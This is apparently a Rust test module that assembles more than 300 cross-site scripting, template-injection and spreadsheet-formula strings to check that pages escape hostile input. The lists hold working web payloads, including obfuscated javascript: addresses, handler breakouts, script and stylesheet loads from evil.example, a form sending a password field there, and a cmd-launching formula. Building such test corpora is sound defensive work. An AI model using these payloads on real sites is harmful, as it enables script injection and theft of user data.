//! Texts that mean to be more than text: each context that a text may stand in, with each way to
//! leave it, in each spelling that some reader undoes.

/// What is run if one of them is: pages of the tests have it, and count.
const RUN: &str = "hit()";

/// More than 300 texts, each on one line and short enough for a name.
pub(super) fn all() -> Vec<String> {
    let mut all = Vec::new();
    all.extend(tags());
    all.extend(handlers());
    all.extend(addresses());
    all.extend(ways_out());
    all.extend(templates());
    all.extend(others());
    all.retain(|text| text.chars().count() <= 100);
    all.sort();
    all.dedup();
    assert!(all.len() >= 300, "only {}", all.len());
    all
}

/// Elements that run something, and spellings of their names that some parser takes for them.
fn tags() -> Vec<String> {
    let whole = [
        "<script>RUN</script>",
        "<script src=//evil.example/x.js></script>",
        "<script src=data:text/javascript,RUN></script>",
        "<script type=module>RUN</script>",
        "<script>/*RUN*/RUN//</script>",
        "<script\u{a0}>RUN</script>",
        "<script/x>RUN</script >",
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "<svg><script>RUN</script></svg>",
        "<svg><script href=data:,RUN />",
        "<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>",
        "<svg><set attributeName=href to=javascript:RUN>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "<svg><use href=data:image/svg+xml,<svg/onload=RUN>>",
        "<svg><foreignObject><iframe srcdoc=x onload=RUN>",
        "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
        "<math href=javascript:RUN>x</math>",
        "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
        "<iframe src=javascript:parent.RUN></iframe>",
        "<iframe src=data:text/html,<script>RUN</script>></iframe>",
        "<object data=javascript:RUN></object>",
        "<object data=data:text/html,<script>RUN</script>></object>",
        "<embed src=javascript:RUN>",
        "<applet code=x></applet>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example/x>",
        "<link rel=prefetch href=//evil.example/x>",
        "<style>@import '//evil.example/x.css';</style>",
        "<style>*{background:url(//evil.example/x)}</style>",
        "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<meta http-equiv=content-security-policy content=''>",
        "<form action=javascript:RUN><button>x</button></form>",
        "<form action=//evil.example><input name=password>",
        "<button formaction=javascript:RUN>x</button>",
        "<input type=image src=//evil.example/x onerror=RUN>",
        "<isindex action=javascript:RUN type=image>",
        "<template><img src=x onerror=RUN></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=RUN>\">",
        "<title><img title=\"</title><img src=x onerror=RUN>\">",
        "<xmp><img title=\"</xmp><img src=x onerror=RUN>\">",
        "<plaintext>",
        "<!--><img src=x onerror=RUN>-->",
        "<!-- --!><img src=x onerror=RUN>",
        "<![CDATA[<img src=x onerror=RUN>]]>",
        "<?xml-stylesheet href='javascript:RUN'?>",
        "<portal src=javascript:RUN>",
        "<dialog open onclose=RUN><form method=dialog>",
        "<div popover id=menu onbeforetoggle=RUN>",
    ];
    spelled(&whole)
}

/// Every element that takes a handler which needs nobody, with every separator that a parser
/// takes for a space.
fn handlers() -> Vec<String> {
    let carriers = [
        "img src=x onerror",
        "svg onload",
        "body onload",
        "video src=x onerror",
        "audio src=x onerror",
        "details open ontoggle",
        "input autofocus onfocus",
        "marquee onstart",
        "object onerror",
        "iframe onload",
        "select autofocus onfocus",
        "textarea autofocus onfocus",
        "style onload",
        "a tabindex=1 autofocus onfocus",
        "video><source onerror",
        "x onanimationstart",
        "div onpointerenter",
        "p oncontentvisibilityautostatechange",
    ];
    let mut all = Vec::new();
    for carrier in carriers {
        let (name, rest) = carrier.split_once(' ').unwrap_or((carrier, ""));
        for space in [" ", "/", "\u{a0}"] {
            all.push(format!("<{name}{space}{rest}={RUN}>"));
        }
        all.push(format!("<{name} {rest}=\"{RUN}\">"));
        all.push(format!("\"><{name} {rest}={RUN}>"));
        all.push(format!("'><{name} {rest}={RUN}>"));
        all.push(format!("<{} {rest}={RUN}//", name.to_uppercase()));
    }
    all
}

/// Addresses that are programs, for whatever a page makes a link of.
fn addresses() -> Vec<String> {
    let plain = [
        "javascript:RUN",
        "JaVaScRiPt:RUN",
        " javascript:RUN",
        "javascript&colon;RUN",
        "javascript&#58;RUN",
        "&#106;avascript:RUN",
        "java&Tab;script:RUN",
        "java&NewLine;script:RUN",
        "javascript://x%0aRUN",
        "javascript:/*x*/RUN",
        "javascript:void(RUN)",
        "vbscript:RUN",
        "data:text/html,<script>RUN</script>",
        "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=RUN>",
        "blob:https://evil.example/x",
        "filesystem:x",
        "//evil.example",
        "\\\\evil.example",
        "https:evil.example",
        "///evil.example/..",
        "https://localhost@evil.example",
        "view-source:javascript:RUN",
        "feed:javascript:RUN",
        "jar:javascript:RUN!/",
        "mhtml:javascript:RUN",
        "livescript:RUN",
        "javascript\u{3a}RUN",
        "\u{feff}javascript:RUN",
        "javas\u{ad}cript:RUN",
        "ｊavascript:RUN",
    ];
    let mut all = spelled(&plain);
    for address in ["javascript:RUN", "data:text/html,<script>RUN</script>"] {
        let address = address.replace("RUN", RUN);
        all.push(format!("[x]({address})"));
        all.push(format!("![x]({address})"));
        all.push(format!("[x]: {address}"));
        all.push(format!("<{address}>"));
        all.push(format!("<a href={address}>x</a>"));
        all.push(format!("\" href=\"{address}"));
        all.push(format!("url({address})"));
    }
    all
}

/// Ends of every place that a page may write a text into.
fn ways_out() -> Vec<String> {
    let ends = [
        "\"",
        "'",
        "`",
        "\">",
        "'>",
        ">",
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "-->",
        "]]>",
        "</td></tr></table>",
        "</option></select>",
        "</button></form>",
        "</svg>",
        "</main>",
        "\\\"",
        "\\'",
        "&quot;",
        "&#34;",
        "%22",
        "%3E",
        "\\u0022",
        "\\x22",
        "＂",
        "›",
        "\u{2028}",
    ];
    let mut all = Vec::new();
    for end in ends {
        all.push(format!("{end}<img src=x onerror={RUN}>"));
        all.push(format!("{end} autofocus onfocus={RUN} x={end}"));
        all.push(format!("{end};{RUN};//"));
        all.push(format!("{end}-{RUN}-{end}"));
    }
    all
}

/// What the templates of some server or page would work out.
fn templates() -> Vec<String> {
    let texts = [
        "{{ 7*7 }}",
        "{{ RUN }}",
        "{% raw %}",
        "{%- include 'layout.html' -%}",
        "{# x #}",
        "${RUN}",
        "#{RUN}",
        "<%= RUN %>",
        "{{constructor.constructor('RUN')()}}",
        "{{ me }}",
        "{{ self }}",
        "{{ [].__class__.__mro__ }}",
        "{{ '<img src=x onerror=RUN>' | safe }}",
        "[[RUN]]",
        "@{RUN}",
        "*{RUN}",
        "~{RUN}",
        "<x ng-app>{{$on.constructor('RUN')()}}",
        "<x v-html=RUN>",
        "<x @click=RUN>",
        "<x :is=RUN>",
        "<x x-data x-init=RUN>",
        "<x hx-get=//evil.example hx-trigger=load>",
        "<x hx-on:click=RUN>",
        "<x hx-on::load=RUN>",
        "<x data-hx-get=/ data-hx-trigger=load>",
        "<x hx-vals='js:{x:RUN}'>",
        "<x hx-trigger='load[RUN]' hx-get=/>",
        "<x hx-swap-oob=true id=list>",
        "<x data-action=theme>",
        "<x data-copy=x>",
        "<x data-live data-live-state=live>",
    ];
    spelled(&texts)
}

/// Names that a page's script would find instead of its own, and signs that look or read
/// otherwise than they are.
fn others() -> Vec<String> {
    let texts = [
        "<a id=htmx>",
        "<a id=document name=x>",
        "<form name=document><input name=cookie>",
        "<img name=querySelector>",
        "<form id=x><input name=attributes>",
        "<a id=defaultView>",
        "<form name=body>",
        "<img name=currentScript src=//evil.example>",
        "<a id=list><a id=list name=x>",
        "<input name=__proto__>",
        "<form id=menu><output id=content>",
        "<html id=x class=js>",
        "+ADw-script+AD4-RUN+ADw-/script+AD4-",
        "%3Cscript%3ERUN%3C/script%3E",
        "&lt;script&gt;RUN&lt;/script&gt;",
        "&amp;lt;script&amp;gt;RUN",
        "\\u003cscript\\u003eRUN",
        "\\x3cscript\\x3eRUN",
        "＜script＞RUN＜/script＞",
        "\u{17f}cript",
        "<\u{17f}cript>RUN</\u{17f}cript>",
        "<ſvg onload=RUN>",
        "<script>\u{2028}RUN</script>",
        "﹤img src=x onerror=RUN﹥",
        "a\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
        "\u{200b}\u{200b}<b>x</b>",
        "<b>bold</b>",
        "**bold** _x_ `code`",
        "| a | b |",
        "# head",
        "- [ ] x",
        "<u>&nbsp;</u>",
        "&copy;&reg",
        "&lt",
        "&#x3c",
        "&#0000060script",
        "<",
        ">",
        "&",
        "\"",
        "'",
        "</",
        "<!",
        "<?",
        "<a",
        "&&&&",
        "]]>",
        "--><!--",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1",
        "@SUM(1)",
        "expression(RUN)",
        "x:expression(RUN)",
        "<x style=behavior:url(x)>",
        "<x style='-moz-binding:url(//evil.example)'>",
        "🏴\u{200d}☠️",
    ];
    spelled(&texts)
}

fn spelled(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| text.replace("RUN", RUN)).collect()
}
